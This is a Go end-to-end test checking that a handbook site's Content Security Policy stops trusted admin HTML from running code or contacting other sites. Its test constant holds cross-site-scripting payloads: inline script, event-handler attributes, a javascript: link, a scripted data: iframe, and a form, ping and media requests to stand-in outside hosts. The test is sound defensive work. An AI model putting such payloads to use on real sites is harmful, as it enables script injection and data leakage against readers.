package scripts

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"handbook/generator/build"
	"handbook/generator/e2e/harness"
	"handbook/generator/output"
	"handbook/theme"
)

// trustedPayload is an admin's page with every kind of live HTML. With
// trustHTML = true it is published as written (hostile_test.go checks
// the markup); what the reader's browser then does with it is this test.
const trustedPayload = `---
title: 第一章
---
## 一、总则

<script>window.__ran.push("inline script")</script>

<input autofocus onfocus="window.__ran.push('onfocus')"><details open ontoggle="window.__ran.push('ontoggle')"><summary>注</summary></details>

<svg onload="window.__ran.push('svg onload')"><circle r="1"/></svg>

<a id="js" href="javascript:window.__ran.push('javascript: link')">链接</a>

<iframe src="data:text/html,<script>parent.__ran.push('iframe')</script>"></iframe>

<video src="https://tracker.example/v.mp4" autoplay></video>

<link rel="stylesheet" href="https://cdn.example/style.css">

<form id="f" action="https://collect.example/"><input name="工资" value="3000"></form>

<a id="ping" href="#一总则" ping="https://collect.example/ping">本节</a>

<object data="https://cdn.example/x.swf"></object>
`

// With trustHTML = true the admin's raw HTML is in the page, but the
// page's own policy still runs none of it and fetches nothing from
// outside: no inline script or handler, no javascript: link, no framed
// script, no video, style, form post or ping to another site (an image
// on another site is refused by the build, trusted or not). What the
// switch allows is markup, not code or requests.
func TestTrustedHTMLRunsNothingAndFetchesNothing(t *testing.T) {
	dir := t.TempDir()
	for name, data := range map[string]string{"site.toml": "title = \"手册\"\ntrustHTML = true\n", "01-a.md": trustedPayload} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	mem := output.NewMemory()
	if _, err := build.Run(build.Options{Source: os.DirFS(dir), SourceName: "content", Theme: theme.FS, Out: mem}); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(harness.FileHandler(mem.Files))
	t.Cleanup(srv.Close)
	var name string
	for n := range mem.Files {
		if strings.HasSuffix(n, "/a/index.html") || strings.HasSuffix(n, "/01-a/index.html") {
			name = n
		}
	}
	if name == "" || !strings.Contains(string(mem.Files[name]), `<script>window.__ran.push("inline script")</script>`) {
		t.Fatalf("the trusted page (%q) does not carry the admin's HTML as written", name)
	}

	ctx := harness.Browser(t)
	// Chromium announces a request the policy then blocks: what left is
	// what was announced and not blocked.
	var mu sync.Mutex
	sent, blocked := map[network.RequestID]string{}, map[network.RequestID]bool{}
	if err := chromedp.Listen(ctx, func(ev any) {
		mu.Lock()
		defer mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			sent[e.RequestID] = e.Request.URL
		case *network.EventLoadingFailed:
			if e.BlockedReason == network.BlockedReasonCsp {
				blocked[e.RequestID] = true
			}
		}
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `window.__ran = [];` + cspProbe}); err != nil {
		t.Fatal(err)
	}
	url := srv.URL + "/" + strings.TrimSuffix(name, "index.html")
	harness.Do(t, ctx, chromedp.Navigate(url), chromedp.WaitVisible(chromedp.CSS(`h2[id]`)))
	// The reader clicks the links and the form is sent.
	harness.Eval[bool](t, ctx, `(document.getElementById("js").click(), document.getElementById("ping").click(), true)`)
	harness.Eval[bool](t, ctx, `(() => { try { document.getElementById("f").submit() } catch (e) {} return true })()`)
	time.Sleep(500 * time.Millisecond)
	if loc := harness.Eval[string](t, ctx, `location.origin`); loc != srv.URL {
		t.Fatalf("the page went to %s", loc)
	}
	if ran := harness.Eval[[]string](t, ctx, `window.__ran`); len(ran) > 0 {
		t.Errorf("the admin's HTML ran: %q", ran)
	}
	mu.Lock()
	var out []string
	for id, u := range sent {
		if !blocked[id] && !strings.HasPrefix(u, srv.URL+"/") && !strings.HasPrefix(u, "data:") {
			out = append(out, u)
		}
	}
	n := len(sent)
	mu.Unlock()
	if n < 3 {
		t.Fatalf("only %d requests logged; the log is not working", n)
	}
	if len(out) > 0 {
		t.Errorf("requests left the site: %q", out)
	}
	refused := harness.Eval[[]string](t, ctx, `window.__csp`)
	if len(refused) < 4 {
		t.Errorf("the policy refused only %q; the payload did not reach the browser", refused)
	}
	t.Logf("refused by the page's policy: %q", refused)
}
